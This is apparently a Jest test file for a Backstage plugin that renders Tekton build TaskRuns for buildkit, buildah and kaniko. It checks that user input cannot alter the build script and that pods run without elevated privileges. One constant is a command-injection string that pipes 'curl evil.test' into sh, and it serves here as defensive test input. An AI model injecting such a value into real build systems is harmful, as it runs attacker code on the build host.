import type { BuildRequest } from '@slipway/backstage-plugin-workspaces-node';
import { buildSpecification } from '@slipway/backstage-plugin-workspaces-node/engines';
import { Names } from '../engine/names';
import { requestOf } from './__testUtils__/requests';
import { imageLabels, imageMap } from './specification';
import { BuilderName, strategies, Strategy } from './strategies';
import {
  builderOf,
  hasEnded,
  isToldToEnd,
  renderTaskRun,
  resultOf,
  TASK_RUN,
  taskRunName,
} from './taskRun';

const key = {
  workspace: 'ws-a',
  run: 'run-1',
  stage: 'build',
  app: 'web',
  attempt: 1,
} as const;
const hostile = `'; curl evil.test | sh; $(params.X) $(IMAGE) \${HOME} \`id\`\n"`;

async function rendered(strategy: Strategy, more = {}) {
  const request = await requestOf(
    'ws-a',
    { Dockerfile: 'FROM scratch\n' },
    {
      arguments: [{ name: 'X', value: hostile }],
      target: hostile,
      dockerfile: hostile,
      ...more,
    },
  );
  return renderTaskRun({
    task: {
      request,
      labels: imageLabels(request, 'test'),
      images: imageMap({}),
    },
    key,
    names: new Names('test'),
    builder: { strategy, image: 'builder.test/a:1', why: 'of this test' },
    resources: {
      requests: { cpu: '1', memory: '1Gi' },
      limits: { cpu: '2', memory: '2Gi' },
    },
    registry: { address: 'r.test', isPlain: false },
    bundle: 'r.test/a@sha256:1',
    image: 'r.test/a:1',
    cache: 'r.test/a:cache',
    reuse: !request.noCache,
    specification: buildSpecification(request),
  });
}

function stepOf(run: Awaited<ReturnType<typeof rendered>>) {
  const { taskSpec } = run.spec as {
    taskSpec: {
      steps: {
        script: string;
        env: { name: string; value: string }[];
        securityContext: object;
      }[];
    };
  };
  const [{ script, env, securityContext }] = taskSpec.steps;
  return {
    script,
    securityContext,
    environment: Object.fromEntries(
      env.map(({ name, value }) => [name, value]),
    ),
  };
}

function wordsOf(run: Awaited<ReturnType<typeof rendered>>): string[] {
  const { environment } = stepOf(run);
  expect(environment.WORDS).toMatch(/^[A-Za-z0-9+/= ]+$/);
  return environment.WORDS.split(' ').map(word =>
    Buffer.from(word, 'base64').toString(),
  );
}

describe.each<[BuilderName, { words: string[]; securityContext: object }]>([
  [
    'buildkit',
    {
      words: [
        `build-arg:X=${hostile}`,
        `target=${hostile}`,
        `filename=${hostile}`,
      ],
      securityContext: { runAsUser: 1000, runAsGroup: 1000 },
    },
  ],
  [
    'buildah',
    {
      words: [
        `--build-arg=X=${hostile}`,
        `--target=${hostile}`,
        `--file=${hostile}`,
      ],
      securityContext: { runAsUser: 0, allowPrivilegeEscalation: false },
    },
  ],
  [
    'kaniko',
    {
      words: [
        `--build-arg=X=${hostile}`,
        `--target=${hostile}`,
        `--dockerfile=${hostile}`,
      ],
      securityContext: {
        runAsUser: 0,
        allowPrivilegeEscalation: false,
        seccompProfile: { type: 'RuntimeDefault' },
        capabilities: expect.objectContaining({ drop: ['ALL'] }),
      },
    },
  ],
])('a build with %s', (name, { words, securityContext }) => {
  const strategy = strategies[name];

  it('has the same script as every other; what differs is in the environment, where nothing can be replaced', async () => {
    const run = await rendered(strategy);
    const plain = { arguments: [], target: undefined, dockerfile: 'a' };
    expect(stepOf(run).script).toBe(
      stepOf(await rendered(strategy, plain)).script,
    );
    expect(stepOf(run).script).toBe(strategy.script);
    expect(wordsOf(run)).toEqual(expect.arrayContaining(words));
  });

  it('runs without the token of an account, and within Pod Security "baseline"', async () => {
    const run = await rendered(strategy);
    expect(run.spec).toMatchObject({
      podTemplate: { automountServiceAccountToken: false },
    });
    expect(stepOf(run).securityContext).toEqual(securityContext);
    expect(JSON.stringify(run.spec)).not.toMatch(
      /privileged|Unconfined|SYS_ADMIN|hostPath/,
    );
  });

  it('finds its secrets in files where only steps that mount them do, and goes to nodes of its platform', async () => {
    const run = await rendered(strategy, {
      secrets: [{ name: 'npm_token', secret: { id: 'a' }, version: '1' }],
      platform: 'linux/arm/v7',
    });
    const volume = JSON.stringify(run.spec).includes(
      `"secretName":"${run.metadata.name}"`,
    );
    expect(volume).toBe(strategy.mountsSecrets ?? false);
    const mentioned = wordsOf(run).filter(word => word.includes('npm_token'));
    const source = 'id=npm_token,src=/slipway/secrets/npm_token';
    expect(mentioned.map(word => word.replace(/^--secret=/, ''))).toEqual(
      strategy.mountsSecrets ? [source] : [],
    );
    expect(wordsOf(run).join('\n')).toMatch(/platform=linux\/arm\/v7$/m);
    expect(JSON.stringify(run.spec)).toContain(
      '{"key":"kubernetes.io/arch","operator":"In","values":["arm","arm64"]}',
    );
  });

  it('uses no cache where none is wanted', async () => {
    const run = await rendered(strategy, { noCache: true });
    expect(stepOf(run).environment).toMatchObject({
      REUSE: 'no',
      CACHE: 'r.test/a:cache',
    });
  });

  it('is known by its TaskRun', async () => {
    expect(builderOf(await rendered(strategy))).toEqual({
      strategy,
      why: 'of this test',
    });
  });
});

it('gives the longest app a name to which Tekton can add its own', () => {
  const name = taskRunName('a'.repeat(40), { ...key, run: 'r'.repeat(200) });
  expect(`${name}-pod`.length).toBeLessThanOrEqual(63);
  expect(taskRunName('web', key)).toBe(taskRunName('web', { ...key }));
  expect(taskRunName('web', key)).not.toBe(
    taskRunName('web', { ...key, attempt: 2 }),
  );
});

it('tells an image by all that it is made from', async () => {
  const files = { Dockerfile: 'FROM scratch\n' };
  const request = await requestOf('ws-a', files);
  const specificationWith = (more: Partial<BuildRequest>) => {
    const changed = { ...request, ...more };
    return buildSpecification(changed);
  };
  const others = [
    { dockerfile: 'other' },
    { target: 'x' },
    { arguments: [{ name: 'A', value: '1' }] },
    { bundleDigest: '0' },
    { platform: 'linux/arm64' },
    { secrets: [{ name: 'npm', secret: { id: 'a' }, version: '1' }] },
  ].map(specificationWith);
  expect(new Set([buildSpecification(request), ...others]).size).toBe(7);
  const secret = { name: 'npm', secret: { id: 'a' } };
  const [one, two] = ['1', '2'].map(version =>
    specificationWith({ secrets: [{ ...secret, version }] }),
  );
  expect(one).toBe(two); // its value may change while it is built
  expect(specificationWith({ noCache: true })).toBe(
    buildSpecification(request),
  );
});

it('reads how a TaskRun stands', () => {
  const run = (status: 'True' | 'Unknown', value: unknown) => ({
    ...TASK_RUN,
    metadata: {},
    status: {
      conditions: [{ type: 'Succeeded', status }],
      results: [{ name: 'IMAGE_DIGEST', value }],
    },
  });
  expect(hasEnded(run('True', ''))).toBe(true);
  expect(hasEnded(run('Unknown', ''))).toBe(false);
  expect(isToldToEnd(run('Unknown', ''))).toBe(false);
  const cancelled = {
    ...run('Unknown', ''),
    spec: { status: 'TaskRunCancelled' },
  };
  expect(isToldToEnd(cancelled)).toBe(true);
  expect(resultOf(run('True', ''), 'IMAGE_DIGEST')).toBeUndefined();
  expect(resultOf(run('True', 'sha256:1'), 'IMAGE_DIGEST')).toBe('sha256:1');
});
